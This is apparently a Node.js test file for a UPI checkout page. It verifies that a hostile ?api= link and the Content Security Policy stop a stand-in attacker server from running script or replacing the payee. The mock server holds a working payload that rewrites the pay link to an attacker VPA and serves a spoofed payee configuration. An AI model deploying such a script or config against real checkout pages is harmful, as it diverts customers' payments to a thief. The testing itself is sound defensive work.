'use strict';
// The checkout page against a hostile link: ?api= naming another server that
// serves its own socket.io.js, configuration and order status. Reproduces the
// attack of issue 17 in Chromium and shows that the page neither runs that
// script nor shows that server's payee, and that the Content-Security-Policy
// blocks foreign scripts and connections even if page code tried.

const test = require('node:test');
const assert = require('node:assert/strict');
const http = require('node:http');

const {
  withServerAndPage,
  createOrder,
  paymentUrl,
  completeOrder,
  waitFor,
} = require('./helpers');

const ATTACKER_VPA = 'attacker@upi';

// A second local server playing the attacker: a script that marks the page
// and rewrites its pay link, and the API answers the page would trust.
async function startEvilServer() {
  const requests = [];
  const script = `
    window.__pwned = true;
    document.title = 'PWNED';
    var a = document.getElementById('upi-link');
    if (a) { a.href = 'upi://pay?pa=${ATTACKER_VPA}&am=99999'; }
    window.io = function () { throw new Error('evil io'); };
  `;
  const srv = http.createServer((req, res) => {
    requests.push(req.url);
    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
    if (req.method === 'OPTIONS') {
      res.writeHead(204, cors).end();
      return;
    }
    const url = new URL(req.url, 'http://x');
    if (url.pathname === '/socket.io/socket.io.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript', ...cors }).end(script);
    } else if (url.pathname === '/api/config') {
      res.writeHead(200, { 'Content-Type': 'application/json', ...cors })
        .end(JSON.stringify({ realtime: true, merchantVpa: ATTACKER_VPA, merchantName: 'Evil', apiOrigins: ['*'] }));
    } else if (url.pathname.startsWith('/api/payment/status/')) {
      res.writeHead(200, { 'Content-Type': 'application/json', ...cors })
        .end(JSON.stringify({ orderId: url.pathname.split('/').pop(), status: 'pending', seq: 0, amount: 9999900, currency: 'INR' }));
    } else {
      res.writeHead(404, cors).end('no');
    }
  });
  await new Promise((resolve, reject) => {
    srv.once('error', reject);
    srv.listen(0, '127.0.0.1', resolve);
  });
  const { port } = srv.address();
  return {
    // localhost, not 127.0.0.1: another origin than the real server's.
    origin: `http://localhost:${port}`,
    requests,
    close: () => new Promise((resolve) => srv.close(resolve)),
  };
}

function cspMessages(logs) {
  return logs.filter((l) => /Content Security Policy/i.test(l));
}

test('?api= naming an untrusted server runs none of its code and shows none of its payee', async () => {
  const evil = await startEvilServer();
  try {
    await withServerAndPage('checkout-api-injection', async ({ server, page }) => {
      const order = await createOrder(server);
      await page.goto(paymentUrl(server, order, { api: evil.origin }));
      await waitFor('the page to refuse the link (or run the attacker script)', async () =>
        (await page.getAttribute('#payment-status', 'data-status')) === 'error' ||
        page.evaluate(() => window.__pwned === true), 15000);
      // Give a script load time to have happened, were it going to.
      await new Promise((r) => setTimeout(r, 500));

      assert.equal(await page.evaluate(() => window.__pwned === true), false, 'the attacker script ran');
      assert.notEqual(await page.title(), 'PWNED');
      assert.match(await page.textContent('#status-title'), /not valid/i);
      assert.equal(await page.isVisible('#upi-link'), false, 'no pay link is offered');
      const href = await page.getAttribute('#upi-link', 'href');
      assert.ok(!href.includes(ATTACKER_VPA), `pay link ${href} names the attacker`);
      assert.ok(!evil.requests.some((u) => u.startsWith('/socket.io/')), `the attacker served ${evil.requests}`);
      assert.ok(!evil.requests.some((u) => u.includes(order.token)), 'the order token reached the attacker');
    });
  } finally {
    await evil.close();
  }
});

test('the Content-Security-Policy blocks foreign scripts and connections on the checkout page', async () => {
  const evil = await startEvilServer();
  try {
    await withServerAndPage('checkout-csp', async ({ server, browser, page }) => {
      const order = await createOrder(server);
      await page.goto(paymentUrl(server, order));
      await page.waitForSelector('#connection-indicator[data-state="live"]', { timeout: 15000 });
      assert.deepEqual(cspMessages(browser.logs), [], 'the page itself breaks its policy');

      // Page code that tried anyway: a script tag and a fetch to the attacker.
      const scriptLoaded = await page.evaluate((src) => new Promise((resolve) => {
        const s = document.createElement('script');
        s.src = src;
        s.onload = () => resolve(true);
        s.onerror = () => resolve(false);
        document.head.appendChild(s);
      }), `${evil.origin}/socket.io/socket.io.js`);
      assert.equal(scriptLoaded, false, 'a foreign script loaded');
      assert.equal(await page.evaluate(() => window.__pwned === true), false);
      const fetched = await page.evaluate((url) => fetch(url).then(() => true, () => false), `${evil.origin}/api/config`);
      assert.equal(fetched, false, 'a foreign origin was reachable with fetch');
      const inline = await page.evaluate(() => {
        const s = document.createElement('script');
        s.textContent = 'window.__inline = true';
        document.head.appendChild(s);
        return window.__inline === true;
      });
      assert.equal(inline, false, 'an inline script ran');
      assert.deepEqual(evil.requests, [], 'the attacker saw requests');
      await waitFor('the violations to be reported', () => cspMessages(browser.logs).length >= 1);

      // The page still does its job under the policy.
      await completeOrder(server, order.id, 'pay_csp');
      await page.waitForSelector('#payment-status[data-status="completed"]', { timeout: 5000 });
    });
  } finally {
    await evil.close();
  }
});

test('the debugging page works under the policy in development', async () => {
  await withServerAndPage('debug-page-csp', async ({ server, browser, page }) => {
    await page.goto(`${server.url}/websocket-test.html`);
    await page.click('#connect');
    await page.waitForSelector('#connection-state[data-state="connected"]', { timeout: 15000 });
    assert.deepEqual(cspMessages(browser.logs), [], 'the debugging page breaks the policy');
  });
});
